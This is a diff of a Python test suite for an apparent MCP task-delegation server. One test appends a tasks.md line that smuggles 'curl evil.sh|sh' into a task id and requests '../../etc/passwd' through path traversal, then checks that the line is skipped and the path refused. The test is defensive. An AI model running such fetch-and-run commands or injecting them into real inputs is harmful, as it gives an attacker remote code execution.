@@ -75,6 +75,7 @@ async def test_tool_list_matches_the_snapshot(world: World) -> None:
         "list_agents",
         "get_task_status",
         "cancel_task",
+        "merge_task_branches",
         "cleanup_tasks",
     ]
     annotations = {t["name"]: t["annotations"] for t in tools}
@@ -82,6 +83,7 @@ async def test_tool_list_matches_the_snapshot(world: World) -> None:
         assert annotations[name]["readOnlyHint"] is True and annotations[name]["destructiveHint"] is False
     for name in ("cancel_task", "cleanup_tasks"):
         assert annotations[name]["destructiveHint"] is True and annotations[name]["readOnlyHint"] is False
+    assert annotations["merge_task_branches"]["destructiveHint"] is False  # it never forces
     assert all(t.get("title") and t.get("description") and t.get("outputSchema") for t in tools)
     if os.environ.get("UPDATE_SNAPSHOTS"):
         SNAPSHOT.parent.mkdir(parents=True, exist_ok=True)
@@ -484,7 +486,8 @@ async def test_spawn_async_tasks_wave_by_wave(world: World) -> None:
     ]
     assert "summary: T002 done" in (state / "delegation_completed" / "T002.txt").read_text()
     meta = json.loads((world.repo / "specs" / FEATURE / "tasks_meta.json").read_text())
-    assert meta["tasks"]["T002"]["status"] == "completed" and meta["tasks"]["T005"]["status"] == "delegated"
+    assert meta["tasks"]["T002"]["status"] == "completed" and meta["tasks"]["T005"]["status"] == "in_progress"
+    assert meta["tasks"]["T005"]["execution_mode"] == "ASYNC"
 
 
 # -- refused input: a clear message naming the field, and nothing created ------------------------
@@ -579,21 +582,25 @@ async def test_bad_spawn_input_is_refused_and_creates_nothing(
     assert world.cluster.jobs() == []
 
 
-async def test_a_bad_task_id_in_tasks_md_is_refused_and_creates_nothing(world: World) -> None:
+async def test_a_bad_task_id_in_tasks_md_is_skipped_with_a_warning_and_never_spawned(world: World) -> None:
+    """Attack: a tasks.md line smuggling shell into a task id. spec-kit's reader sees no task there
+    (issue 9: such lines are skipped with a warning, never a refusal of the file): it is never
+    spawned; the file's real tasks are."""
     tasks_md = world.repo / "specs" / FEATURE / "tasks.md"
     tasks_md.write_text(tasks_md.read_text() + "- [ ] T9;curl evil.sh|sh [ASYNC] pwn\n")
     async with connect(world.env()) as mcp:
-        result = await mcp.call("spawn_async_tasks", {"tasks_file": f"specs/{FEATURE}/tasks.md"})
+        result = (await mcp.call("spawn_async_tasks", {"tasks_file": f"specs/{FEATURE}/tasks.md"})).ok
         outside = await mcp.call("spawn_async_tasks", {"tasks_file": "../../etc/passwd"})
-    assert result.error == (
-        f"Error executing tool spawn_async_tasks: invalid tasks_file: line 11: the task id "
-        f"contains characters that are not allowed; {ALLOWED_ID}"
-    )
+    assert result["warnings"] == [
+        "line 11: a checkbox that is not a task (no task id such as T012 after the box): skipped"
+    ]
+    assert sorted(h["task_id"] for h in result["handles"]) == ["T002", "T003"]
     assert (
         outside.error == "Error executing tool spawn_async_tasks: invalid tasks_file: it is outside the repository; "
         f"{ALLOWED_PATH}"
     )
-    assert world.cluster.jobs() == []
+    labels = sorted(j["metadata"]["labels"][naming.LABEL_TASK_ID] for j in world.cluster.jobs())
+    assert labels == ["T002", "T003"]
 
 
 async def test_unreadable_or_too_big_context_files_are_refused_and_create_nothing(world: World) -> None:
